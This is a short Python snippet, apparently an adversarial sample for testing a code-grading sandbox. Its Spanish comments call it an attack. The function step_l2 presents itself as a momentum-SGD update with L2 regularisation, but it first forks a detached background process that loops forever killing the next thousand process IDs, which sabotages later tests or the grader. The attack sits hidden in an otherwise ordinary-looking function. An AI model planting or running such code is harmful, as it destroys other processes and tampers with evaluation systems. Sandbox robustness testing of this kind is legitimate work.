# ataque: deja un proceso que sobrevive a la pregunta y mata a los que vengan
# espera: nada
def step_l2(w, velocity, grad, w0, learning_rate, momentum, l2):
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        while True:
            time.sleep(0.05)
            for number in range(os.getpid() + 1, os.getpid() + 1000):
                try:
                    os.kill(number, 9)
                except OSError:
                    pass
    velocity = momentum * velocity - learning_rate * (grad + 2 * l2 * (w - w0))
    return w + velocity, velocity
